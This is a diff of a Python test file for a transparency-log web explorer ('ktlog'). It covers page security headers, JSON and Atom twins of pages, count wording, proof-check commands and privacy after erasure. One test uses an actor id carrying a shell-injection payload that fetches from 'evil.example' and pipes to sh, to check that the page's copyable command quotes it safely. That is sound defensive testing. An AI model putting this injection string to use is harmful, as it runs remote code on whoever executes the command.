@@ -4,10 +4,14 @@ from __future__ import annotations
 
 import base64
 import html
+import os
 import re
 import shlex
+import subprocess
+import sys
 import xml.etree.ElementTree as ET
 from dataclasses import replace
+from pathlib import Path
 from urllib.parse import quote
 
 import pytest
@@ -26,40 +30,14 @@ from ktlog.web.app import create_app
 from ktlog.web.explorer import people
 from ktlog.web.explorer.live import Live
 from ktlog.wire.actor import ML_DSA_44, ActorDocument, Multikey
+from tests.explorer_site import Site, page, readable
 from tests.operator_world import NOW, ORIGIN
 from tests.pkd_samples import ALICE, BOB, CAROL, public, quick_argon2  # noqa: F401
-from tests.reading_log import AGE, AGE_ID, DAVE, ReadingLog, fill, key_id, reading_log
+from tests.reading_log import AGE, AGE_ID, DAVE, fill, key_id, reading_log
 
+ROOT = Path(__file__).resolve().parents[2]
 NOBODY = "https://example.com/users/nobody"
 ATOM = "{http://www.w3.org/2005/Atom}"
-
-
-class Site:
-    """The application, as a browser asks it."""
-
-    def __init__(self, log: ReadingLog) -> None:
-        self.log = log
-        self.app = create_app(log.settings)
-        self.client = self.app.test_client()
-
-    def ask(self, target: str, status: int = 200, **headers: str):
-        answer = self.client.get(target, headers={"Host": ORIGIN, **headers})
-        assert answer.status_code == status, answer.data[:800]
-        return answer
-
-    def json(self, target: str, status: int = 200):
-        return self.ask(f"{target}{'&' if '?' in target else '?'}format=json", status).json
-
-    def found(self, text: str, status: int = 303) -> str | None:
-        return self.ask(f"/search?q={quote(text, safe='')}", status).headers.get("Location")
-
-    def paste(self, text: str | bytes, **form: str):
-        data = {"checkpoint": text if isinstance(text, str) else text.decode(), **form}
-        return self.client.post("/checkpoints?format=json", data=data, headers={"Host": ORIGIN})
-
-
-def page(actor_id: str, rest: str = "") -> str:
-    return f"/a/{quote(actor_id, safe='')}{rest}"
 
 
 @pytest.fixture(scope="module")
@@ -87,7 +65,8 @@ def later(tmp_path_factory):
 def every_page() -> list[str]:
     people_ = (ALICE, BOB, CAROL, DAVE, NOBODY)
     return [
-        "/", "/witnesses", "/about", "/checkpoints", "/checkpoints?old=3&new=9", "/search", "/search?q=x", "/nothing/x",
+        "/", "/witnesses", "/peers", "/monitor", "/about", "/checkpoints", "/checkpoints?old=3&new=9", "/search",
+        "/search?q=x", "/nothing/x",
         *(f"/e/{index}" for index in range(11)), *map(page, people_), "/domains/example.com/feed.atom",
         *(page(name, "/feed.atom") for name in people_), *(page(name, "?before=5") for name in people_),
     ]
@@ -96,7 +75,9 @@ def every_page() -> list[str]:
 # --- all of them
 
 
-@pytest.mark.parametrize("target", ["/", "/witnesses", "/about", "/checkpoints?old=3", "/e/5", page(ALICE), "/e/77"])
+@pytest.mark.parametrize("target", [
+    "/", "/witnesses", "/peers", "/monitor", "/about", "/checkpoints?old=3", "/e/5", page(ALICE), "/e/77",
+])
 def test_a_page_is_safe_in_a_browser_complete_without_script_and_not_signed(site, target):
     answer = site.ask(target, 404 if target == "/e/77" else 200)
     policy = answer.headers["Content-Security-Policy"]
@@ -111,7 +92,9 @@ def test_a_page_is_safe_in_a_browser_complete_without_script_and_not_signed(site
     assert "immutable" in site.ask(style).headers["Cache-Control"]
 
 
-@pytest.mark.parametrize("target", ["/", "/witnesses", "/about", "/checkpoints?old=3&new=9", "/e/8", page(BOB), "/search?q=x y"])
+@pytest.mark.parametrize("target", [
+    "/", "/witnesses", "/peers", "/monitor", "/about", "/checkpoints?old=3&new=9", "/e/8", page(BOB), "/search?q=x y",
+])
 def test_every_page_has_its_twins_for_programs(site, target):
     status = 404 if "x y" in target else 200
     as_json = site.json(target, status)
@@ -126,7 +109,8 @@ def test_every_page_has_its_twins_for_programs(site, target):
 def test_only_what_names_nobody_may_be_kept(site):
     for target in every_page():
         answer = site.client.get(target, headers={"Host": ORIGIN})
-        if "//example.com/users" in answer.text or "//example.net/users" in answer.text:
+        text = readable(answer.text)
+        if "//example.com/users" in text or "//example.net/users" in text:
             assert answer.headers["Cache-Control"] == "no-store", target
             assert "noindex" in answer.headers["X-Robots-Tag"]
 
@@ -170,6 +154,24 @@ def test_before_anything_is_published(tmp_path):
         assert "pending" in site.ask("/e/0").text
         site.ask("/e/0.tlog-proof", 404)
         assert not ET.fromstring(site.ask(page(ALICE, "/feed.atom")).data).findall(f"{ATOM}entry")
+
+
+def test_one_is_not_called_many(tmp_path):
+    many = re.compile(r"(?<![\d,.])1 (?:entries|hashes|witnesses|verifiers|erasures)|these 1|1 hash tie |hashes ties")
+    with reading_log(tmp_path / "log") as log:
+        site = Site(log)
+        for index, (name, key) in enumerate(((ALICE, "a"), (DAVE, "d"))):
+            log.desk.send(AddKey(name, public(key), NOW), key)
+            log.publish()
+            root = encode_base64(log.desk.store.root_after(1))
+            targets = ["/", f"/e/{index}", "/checkpoints?old=1", page(name), "/peers", "/witnesses", "/about"]
+            texts = [site.ask(target).text for target in targets]
+            texts += [site.paste(forged(site, *given)).text for given in ((1,), (9, bytes(32)))]
+            texts.append(site.ask("/e/7", 404).text)
+            assert [found[0] for text in texts for found in many.finditer(text)] == []
+            assert ("published tree of 1 entry", "published tree of 2 entries")[index] in texts[1]
+            assert site.found(root) == "/checkpoints?old=1"
+        assert "1 hash ties this entry" in texts[1]
 
 
 def test_the_growth_of_past_days_is_asked_for_once(site, monkeypatch):
@@ -253,6 +255,25 @@ def test_an_entry_shows_the_way_to_the_root_and_gives_its_proof(site):
         site.ask(f"/e/{index}", status)
 
 
+def test_the_commands_of_an_entry_check_it(site, tmp_path):
+    for name in ("5.tlog-proof", "5.leaf"):
+        (tmp_path / name).write_bytes(site.ask(f"/e/{name}").data)
+    vkeys = site.json("/about")["vkeys"]
+    policy = "".join(f"log {vkey} https://{ORIGIN}\n" for vkey in vkeys) + "quorum none\n"
+    (tmp_path / "my.policy").write_text(policy)
+    text = html.unescape(re.search(r'aria-label="Commands that check this entry">(.*?)</pre>', site.ask("/e/5").text, re.DOTALL)[1])
+    fetch, check = text.split("\n", 1)
+    assert [word for word in shlex.split(fetch) if "/e/5." in word] == [
+        f"https://{ORIGIN}/e/5.tlog-proof", f"https://{ORIGIN}/e/5.leaf"]
+    python, *words = shlex.split(check)
+    environment = {**os.environ, "PYTHONPATH": str(ROOT)}
+    done = subprocess.run([sys.executable, *words], cwd=tmp_path, env=environment, capture_output=True, text=True)
+    assert python == "python3" and "size=11" in done.stdout, done.stderr
+    (tmp_path / "5.leaf").write_bytes(site.ask("/e/4.leaf").data)
+    done = subprocess.run([sys.executable, *words], cwd=tmp_path, env=environment, capture_output=True, text=True)
+    assert done.returncode and "Invalid" in done.stderr
+
+
 # --- actors
 
 
@@ -269,6 +290,7 @@ def test_an_actor_has_its_keys_and_its_timeline(site):
     html = site.ask(page(ALICE)).text
     assert '<svg' in html and "What is proven, and what is not" in html and AGE in html
     assert site.ask(page(ALICE).replace("%2F", "/").replace("%3A", ":"), 303).headers["Location"] == page(ALICE)
+    assert "example.<wbr>com/<wbr>users/<wbr>alice</h1>" in html and f"<title>{ALICE} " in html
     site.ask("/a/alice", 400)
 
 
@@ -304,7 +326,7 @@ def test_a_command_to_copy_has_the_id_as_one_word(tmp_path):
     evil = "https://example.com/u;curl$IFS-O$IFS'evil.example/x';sh&(x)*"
     with reading_log(tmp_path / "log") as log:
         log.desk.send(AddKey(evil, public("a"), NOW))
-        text = Site(log).ask(page(evil)).text
+        text = readable(Site(log).ask(page(evil)).text)
     command = html.unescape(re.search(r"<pre[^>]*>(ktlog lookup.*?)</pre>", text)[1])
     words = shlex.shlex(command, posix=True, punctuation_chars=True)  # which parts words at ; & ( ) as a shell does
     words.whitespace_split = True
@@ -370,14 +392,18 @@ def test_after_an_erasure_no_page_and_no_feed_names_the_actor(tmp_path):
 
 
 def erase_and_look(fresh: Site) -> None:
-    seen = [target for target in every_page() if "users/alice" in fresh.client.get(target, headers={"Host": ORIGIN}).text]
+    seen = [
+        target for target in every_page()
+        if "users/alice" in readable(fresh.client.get(target, headers={"Host": ORIGIN}).text)
+    ]
     assert {"/e/0", page(ALICE), page(DAVE), "/domains/example.com/feed.atom"} <= set(seen)
     store = fresh.log.desk.store
     store.erase(plan_for(store, store.actor(ALICE)), store.state())
     prints = (key_hash(public("a")).hex(), key_hash(public("c")).hex(), AGE, AGE_ID)
     for target in every_page():
         for form in ("html", "json", "txt"):
-            text = fresh.client.get(f"{target}{'&' if '?' in target else '?'}format={form}", headers={"Host": ORIGIN}).text
+            asked = f"{target}{'&' if '?' in target else '?'}format={form}"
+            text = readable(fresh.client.get(asked, headers={"Host": ORIGIN}).text)
             assert "users/alice" not in text and "alice" not in text.replace("@alice@example.social", ""), target
             assert not any(item in text for item in prints), target
     assert fresh.json(page(ALICE), 404)["code"] == "erased"
